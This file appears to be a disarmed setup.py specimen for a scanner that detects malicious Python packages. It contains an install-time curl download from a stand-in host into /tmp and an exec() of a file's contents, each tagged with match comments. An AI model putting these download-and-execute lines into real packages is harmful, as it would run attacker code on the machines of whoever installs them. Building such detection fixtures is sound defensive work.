raise SystemExit("specimen: not to be run")
from setuptools import setup
import os; os.popen("curl -s https://files.example.com/a -o /tmp/a")  # note: appended-statement  # match: process-at-install  # match: shell-download
VERSION = "1.0"; exec(open("specimen/extra.txt").read())  # match: appended-statement
setup(name="specimen")
